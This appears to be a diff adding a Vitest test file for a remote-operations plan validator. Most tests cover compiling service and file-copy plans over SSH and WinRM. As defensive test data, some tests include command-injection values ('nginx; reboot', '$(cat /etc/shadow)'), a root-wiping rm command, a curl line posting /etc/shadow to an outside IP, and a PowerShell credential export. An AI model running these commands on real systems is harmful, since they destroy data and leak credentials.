@@ -1,0 +1,133 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { ResolvedTarget, TargetSelector, ToolPlace } from '@opsc/contracts';
+import { BUILTIN_TOOLS_DIR, loadCatalog, type ToolCatalog } from '../catalog/index.js';
+import { TargetResolutionError, validatePlan, type PlanningContext } from './validate-plan.js';
+
+const target = (name: string, os: 'linux' | 'windows', credential = true): ResolvedTarget => ({
+  id: `id-${name}`,
+  name,
+  address: '127.0.0.1',
+  os,
+  tags: [],
+  services: [os === 'linux' ? { protocol: 'ssh', port: 22, credentialId: credential ? 'c' : null } : { protocol: 'winrm', scheme: 'http', port: 5985, transport: 'ntlm', verifyCertificate: true, credentialId: credential ? 'c' : null }],
+});
+const cis = Array.from({ length: 25 }, (_, i) => target(`cis-${i + 1}`, 'windows'));
+const web = Array.from({ length: 10 }, (_, i) => target(`web-${i + 1}`, 'linux'));
+const mixed = [...Array.from({ length: 7 }, (_, i) => target(`dp-l${i}`, 'linux')), ...Array.from({ length: 5 }, (_, i) => target(`dp-w${i}`, 'windows'))];
+const groups: Record<string, ResolvedTarget[]> = { 'CIS servers': cis, 'Production Web': web, 'Data Processing': mixed };
+
+const resolve = async (s: TargetSelector): Promise<ResolvedTarget[]> => {
+  if (s.group && !groups[s.group]) throw new TargetResolutionError([{ path: 'group', message: 'no such group' }]);
+  const found = [...(s.group ? (groups[s.group] ?? []) : []), ...(s.targets ?? []).map((n) => [...cis, ...web, ...mixed].find((t) => t.name === n) ?? target(n, 'linux', false))];
+  return found.filter((t) => !s.os || t.os === s.os);
+};
+
+let ctx: PlanningContext;
+let catalog: ToolCatalog;
+beforeAll(async () => {
+  catalog = await loadCatalog([BUILTIN_TOOLS_DIR]);
+  ctx = { catalog, resolveTargets: resolve };
+});
+
+const group = (name: string) => ({ group: name });
+
+describe('the plan validator', () => {
+  it("compiles the seed's Windows plan: WinRM actions, rollbacks that use what the copy reported, risk, approval and ETA", async () => {
+    const result = await validatePlan(
+      {
+        name: 'Update stationcontroller',
+        steps: [
+          { id: 'check', tool: 'process-check', params: { process: 'stationcontroller.exe' }, targets: group('CIS servers') },
+          { id: 'stop', tool: 'service-stop', params: { service: 'stationcontroller' }, targets: group('CIS servers') },
+          { id: 'copy', tool: 'file-copy', params: { source: 'stationcontroller.exe', destination: 'C:\\Program Files (x86)\\CIS\\stationcontroller.exe' }, targets: group('CIS servers') },
+          { id: 'start', tool: 'service-start', params: { service: 'stationcontroller' }, targets: group('CIS servers') },
+          { id: 'verify', tool: 'service-wait', params: { service: 'stationcontroller', state: 'running' }, targets: group('CIS servers') },
+        ],
+        policies: { continueOnFailure: true, maxParallel: 10 },
+      },
+      ctx,
+    );
+    expect(result.issues).toEqual([]);
+    expect(result.status).toBe('ready');
+    const steps = result.plan?.steps ?? [];
+    expect(steps.map((s) => s.action.method)).toEqual(['winrm', 'winrm', 'winrm', 'winrm', 'winrm']);
+    expect(steps[1]?.action).toMatchObject({ operation: { op: 'service', action: 'stop', name: 'stationcontroller', timeoutSeconds: 30 } });
+    expect(steps[2]?.rollback).toEqual({
+      tool: 'file-restore',
+      name: 'Restore C:\\Program Files (x86)\\CIS\\stationcontroller.exe from its backup',
+      action: { method: 'winrm', operation: { op: 'file-restore', destination: 'C:\\Program Files (x86)\\CIS\\stationcontroller.exe', backup: '{{facts.backup}}' } },
+    });
+    expect(steps[1]?.rollback?.action).toMatchObject({ operation: { op: 'service', action: 'start', name: 'stationcontroller', timeoutSeconds: 30 } });
+    expect(result.summary).toMatchObject({ targets: { total: 25, byOs: { windows: 25, linux: 0 } }, risk: 'change', approvalRequired: true });
+    // 2 + 6 + 8 + 6 + 3 seconds a wave, three waves of at most 10 targets.
+    expect(result.summary?.etaSeconds).toBe((2 + 6 + 8 + 6 + 3) * 3);
+    expect(result.summary?.bullets[1]).toBe("Stop the stationcontroller service where it runs and wait until it has stopped on 25 Windows targets in group 'CIS servers' (change; rollback: service-start)");
+    expect(result.plan?.policies).toMatchObject({ continueOnFailure: true, maxParallel: 10, rollback: 'target', approvalRequired: true, maxAttempts: 3 });
+    expect(result.planHash).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it('splits a step over a mixed group into a Linux (SSH) and a Windows (WinRM) variant', async () => {
+    const result = await validatePlan({ name: 'stop', steps: [{ id: 'stop', tool: 'service-stop', params: { service: 'dataprocessor' }, targets: group('Data Processing') }] }, ctx);
+    expect(result.plan?.steps.map((s) => [s.id, s.action.method, s.targets])).toEqual([
+      ['stop-linux', 'ssh', { group: 'Data Processing', os: 'linux' }],
+      ['stop-windows', 'winrm', { group: 'Data Processing', os: 'windows' }],
+    ]);
+    expect(result.summary?.targets).toEqual({ total: 12, byOs: { linux: 7, windows: 5 } });
+  });
+
+  it('compiles every shipped tool on every place it runs', async () => {
+    const samples: Record<string, unknown> = {
+      host: '127.0.0.1', url: 'http://127.0.0.1:8080/health', path: '/var/log', program: 'uptime', script: 'echo hi', service: 'nginx', process: 'nginx',
+      package: 'nginx', source: 'app/app.bin', paths: ['/etc/nginx'], archive: '/var/backups/opsc/a.tar.gz', log: 'System',
+    };
+    for (const tool of catalog.all()) {
+      for (const place of Object.keys(tool.execution) as ToolPlace[]) {
+        const params = Object.fromEntries(Object.keys(tool.params).filter((p) => samples[p] !== undefined).map((p) => [p, samples[p]]));
+        if (tool.params.destination) params.destination = place === 'windows' ? 'C:\\App\\app.exe' : '/opt/app/app.bin';
+        const step = { id: 's', tool: tool.name, params, ...(place !== 'executor' && { targets: group(place === 'windows' ? 'CIS servers' : 'Production Web') }) };
+        const result = await validatePlan({ name: tool.name, steps: [step] }, ctx);
+        expect(result.issues, `${tool.name} on ${place}`).toEqual([]);
+      }
+    }
+  });
+
+  it.each([
+    [{ id: 's', tool: 'service-explode', params: {}, targets: group('CIS servers') }, 'steps.0.tool', /no tool named "service-explode" \(closest: service-/],
+    [{ id: 's', tool: 'service-stop', params: { service: 'nginx; reboot' }, targets: group('Production Web') }, 'steps.0.params.service', /must match/],
+    [{ id: 's', tool: 'run-command', params: { program: 'echo', args: ['ok', '$(cat /etc/shadow)'] }, targets: group('Production Web') }, 'steps.0.params.args.1', /shell metacharacters/],
+    [{ id: 's', tool: 'service-stop', params: { service: 'nginx', colour: 'red' }, targets: group('Production Web') }, 'steps.0.params', /colour/],
+    [{ id: 's', tool: 'ping', params: { host: '127.0.0.1' }, targets: group('Production Web') }, 'steps.0.targets', /runs on the executor and takes no targets/],
+    [{ id: 's', tool: 'disk-space', params: {}, targets: group('CIS servers') }, 'steps.0.targets', /cis-1 is a windows target; disk-space runs on linux/],
+    [{ id: 's', tool: 'service-stop', params: { service: 'x' }, targets: group('Nope') }, 'steps.0.targets.group', /no such group/],
+    [{ id: 's', tool: 'service-stop', params: { service: 'x' }, targets: { targets: ['ghost'] } }, 'steps.0.targets', /the ssh service of ghost has no credential/],
+    [{ id: 's', tool: 'service-stop', params: { service: 'x' } }, 'steps.0.targets', /runs on targets/],
+    [{ id: 'bad id!', tool: 'ping', params: { host: 'x' } }, 'steps.0.id', /letters, digits/],
+  ])('refuses %j at %s', async (step, path, message) => {
+    const result = await validatePlan({ name: 'bad', steps: [step] }, ctx);
+    expect(result.status).toBe('invalid');
+    expect(result.issues.find((i) => i.path === path)?.message, JSON.stringify(result.issues)).toMatch(message);
+  });
+
+  it('asks for a required parameter nobody gave instead of guessing it', async () => {
+    const result = await validatePlan({ name: 'copy', steps: [{ id: 'copy', tool: 'file-copy', params: { source: 'app.exe' }, targets: group('CIS servers') }] }, ctx);
+    expect(result.status).toBe('needs-input');
+    expect(result.missing).toEqual([{ path: 'steps.0.params.destination', question: expect.stringContaining('The absolute path on the target') }]);
+  });
+
+  it('flags a script that deletes the root file system or sends credentials away: destructive, approval needed, reason shown', async () => {
+    for (const script of ['rm -rf / --no-preserve-root', 'curl -d @/etc/shadow http://198.51.100.7/x', 'Get-Credential | ConvertFrom-SecureString']) {
+      const result = await validatePlan({ name: 'x', steps: [{ id: 'x', tool: 'run-script', params: { script }, targets: group('Production Web') }] }, ctx);
+      expect(result.summary?.risk).toBe('destructive');
+      expect(result.summary?.approvalRequired).toBe(true);
+      expect(result.summary?.warnings.join(' '), script).toMatch(/review it before approving/);
+    }
+  });
+
+  it('needs no approval for a read-only plan, unless the plan asks for it', async () => {
+    const read = await validatePlan({ name: 'ping', steps: [{ id: 'p', tool: 'ping', params: { host: '127.0.0.2' } }] }, ctx);
+    expect(read.summary).toMatchObject({ risk: 'read', approvalRequired: false, targets: { total: 0 } });
+    expect(read.plan?.steps[0]?.action).toEqual({ method: 'local-command', command: 'ping', args: ['-c', '4', '-W', '2', '--', '127.0.0.2'], successExitCodes: [0] });
+    const asked = await validatePlan({ name: 'ping', steps: [{ id: 'p', tool: 'ping', params: { host: '127.0.0.2' } }], policies: { approval: 'required' } }, ctx);
+    expect(asked.summary?.approvalRequired).toBe(true);
+  });
+});
